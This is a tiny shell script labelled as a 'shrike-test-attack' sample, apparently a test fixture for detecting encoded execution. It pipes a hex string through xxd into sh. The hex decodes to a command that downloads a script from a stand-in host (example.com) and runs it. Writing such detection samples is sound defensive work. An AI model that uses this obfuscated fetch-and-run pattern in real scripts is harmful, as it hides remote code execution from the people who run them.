#!/bin/sh
# shrike-test-attack: encoded-exec: hex blob decoded with xxd -r -p and run
echo 776765742068747470733a2f2f6578616d706c652e636f6d2f61202d4f2d207c207368 | xxd -r -p | sh
